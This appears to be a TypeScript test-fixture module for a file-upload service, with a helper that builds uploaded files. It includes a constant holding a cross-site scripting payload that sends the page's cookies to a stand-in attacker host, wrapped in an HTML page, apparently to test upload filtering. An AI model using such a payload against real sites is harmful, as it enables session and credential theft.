import type { CALLS, CallInput } from '@fovea/contract';

export interface SentFile {
  readonly fileName: string;
  /** Content type that its sender claims. */
  readonly contentType: CallInput<typeof CALLS.createUpload>['body']['contentType'];
  readonly bytes: Buffer;
}

export const toFile = (
  fileName: string,
  contentType: SentFile['contentType'],
  bytes: Buffer | string,
): SentFile => ({ fileName, contentType, bytes: Buffer.from(bytes) });

export const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
export const PAGE = `<!doctype html><html><body>${SCRIPT}</body></html>`;
